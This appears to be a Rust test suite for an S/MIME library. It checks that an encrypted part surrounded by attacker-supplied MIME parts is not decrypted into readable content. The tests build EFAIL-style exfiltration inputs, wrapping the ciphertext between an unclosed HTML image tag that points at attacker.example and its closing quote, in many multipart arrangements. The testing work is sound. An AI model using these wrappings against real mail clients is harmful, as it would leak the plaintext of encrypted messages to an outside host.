//! A ciphertext among parts of other origin.

use smime::{Coverage, Layer, Message, Mode, Policy, crypto::ContentCipher};

use crate::common::{SECRET, contains, entity, expected_entity};
use crate::{body_of, encrypted, letter, world};

#[test]
fn a_ciphertext_among_parts_of_other_origin_stays_closed() {
    let world = world();
    for cipher in ContentCipher::ALL {
        for sign in [Mode::Never, Mode::Always] {
            let mut draft = encrypted(&letter(), cipher);
            draft.sign = Some(sign);
            let sealed = world.seal(&draft);
            for (what, body) in neighbours(&sealed) {
                for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
                    let engine = world.receiver(policy);
                    let mail = [
                        b"From: mallory@example.com\r\nTo: bob@example.org\r\n",
                        &body[..],
                    ]
                    .concat();
                    let opened = engine.open(&*mail).unwrap();
                    check_closed(&opened, &what);
                }
                // Encrypted again, as anybody can to Bob, or signed again, as anybody can at all.
                let mail = [
                    b"From: alice@example.com\r\nTo: bob@example.org\r\n",
                    &body[..],
                ]
                .concat();
                for (sign, encrypt) in [
                    (Mode::Never, Mode::Always),
                    (Mode::Always, Mode::Never),
                    (Mode::Always, Mode::Always),
                ] {
                    let mut around = encrypted(&mail, ContentCipher::Aes256Gcm);
                    (around.sign, around.encrypt) = (Some(sign), Some(encrypt));
                    let opened = world.open(&world.seal(&around)).unwrap();
                    check_closed(&opened, &what);
                }
            }
        }
    }
}

/// The part is named and its content is nowhere.
fn check_closed(opened: &Message, what: &str) {
    let inside = entity(opened);
    assert!(!contains(&inside, SECRET.as_bytes()), "{what}");
    assert!(contains(&inside, b"attacker.example"), "{what}");
    let is_named = opened.layers().iter().any(|layer| {
        matches!(
            layer,
            Layer::Encrypted {
                coverage: Coverage::Part,
                authenticated: false,
                recipient: None,
                ..
            }
        )
    });
    assert!(is_named, "{what}");
}

#[test]
fn a_body_in_pieces_around_a_ciphertext_is_no_ciphertext() {
    let world = world();
    let sealed = world.seal(&encrypted(&letter(), ContentCipher::Aes256Gcm));
    let body = body_of(&sealed);
    let header = &sealed[..sealed.len() - body.len()];
    for (before, after) in [
        ("<img src=\"http://attacker.example/", "\">"),
        ("", "<img src=\"http://attacker.example/\">\r\n"),
        ("text\r\n", ""),
        (
            "--x\r\nContent-Type: text/html\r\n\r\n<p>\r\n--x\r\n",
            "--x--\r\n",
        ),
    ] {
        let mail = [header, before.as_bytes(), body, after.as_bytes()].concat();
        let Ok(opened) = world.open(&mail) else {
            continue;
        };
        // Text that follows the padding is not read; nothing of it is in the content.
        assert_eq!(before, "");
        assert_eq!(entity(&opened), expected_entity(&letter()));
    }
}

/// Entities in which a ciphertext stands among parts that its reader would join it with.
fn neighbours(sealed: &[u8]) -> Vec<(String, Vec<u8>)> {
    let body = body_of(sealed);
    let cipher = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
                  Content-Transfer-Encoding: base64\r\n\r\n";
    let part = [cipher.as_bytes(), body].concat();
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n").into_bytes();
    let (open, close) = (html("<img src=\"http://attacker.example/"), html("\">"));
    let mut entities = Vec::new();
    for kind in ["mixed", "related", "alternative", "parallel", "unheard-of"] {
        for order in [
            vec![&open, &part, &close],
            vec![&part, &open],
            vec![&open, &part],
        ] {
            let entity = multipart(kind, &order.iter().map(|it| &it[..]).collect::<Vec<_>>());
            entities.push((format!("{} parts of {kind}", order.len()), entity));
        }
    }
    let message = [
        b"From: a@attacker.example\r\nMIME-Version: 1.0\r\n",
        &part[..],
    ]
    .concat();
    let attached = [b"Content-Type: message/rfc822\r\n\r\n", &message[..]].concat();
    entities.push((
        "attached".to_owned(),
        multipart("mixed", &[&open, &attached, &close]),
    ));
    let deep = multipart_within("inner", "alternative", &[&open, &part]);
    entities.push(("deep".to_owned(), multipart("related", &[&deep, &close])));
    let octets = "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
                  Content-Transfer-Encoding: base64\r\n\r\n";
    let octets = [octets.as_bytes(), body].concat();
    entities.push((
        "as a file".to_owned(),
        multipart("mixed", &[&open, &octets, &close]),
    ));
    entities
}

pub(crate) fn multipart(kind: &str, parts: &[&[u8]]) -> Vec<u8> {
    multipart_within("outer", kind, parts)
}

fn multipart_within(boundary: &str, kind: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut entity = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary={boundary}\r\n\r\n\
         http://attacker.example/\r\n"
    )
    .into_bytes();
    for part in parts {
        entity.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        entity.extend_from_slice(part);
        entity.extend_from_slice(b"\r\n");
    }
    let end = format!("--{boundary}--\r\nhttp://attacker.example/\r\n");
    entity.extend_from_slice(end.as_bytes());
    entity
}
